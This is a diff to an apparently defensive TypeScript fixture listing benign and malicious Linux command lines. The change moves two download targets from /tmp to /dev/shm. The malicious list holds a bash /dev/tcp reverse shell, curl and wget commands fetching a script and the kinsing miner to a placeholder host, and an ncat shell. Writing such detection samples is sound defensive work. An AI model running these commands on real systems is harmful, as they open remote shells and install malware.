@@ -38,8 +38,8 @@ const LINUX_BENIGN: readonly (readonly [string, string])[] = [
 ];
 const LINUX_MALICIOUS: readonly (readonly [string, string])[] = [
   ['/usr/bin/bash', 'bash -c "bash -i >& /dev/tcp/{ip}/4444 0>&1"'],
-  ['/usr/bin/curl', 'curl -fsSL http://{ip}/x.sh -o /tmp/.x'],
-  ['/usr/bin/wget', 'wget -q http://{ip}:8000/kinsing -O /tmp/kinsing'],
+  ['/usr/bin/curl', 'curl -fsSL http://{ip}/x.sh -o /dev/shm/.x'],
+  ['/usr/bin/wget', 'wget -q http://{ip}:8000/kinsing -O /dev/shm/kinsing'],
   ['/usr/bin/ncat', 'ncat {ip} 9001 -e /bin/sh'],
 ];
 const WINDOWS_BENIGN: readonly (readonly [string, string])[] = [
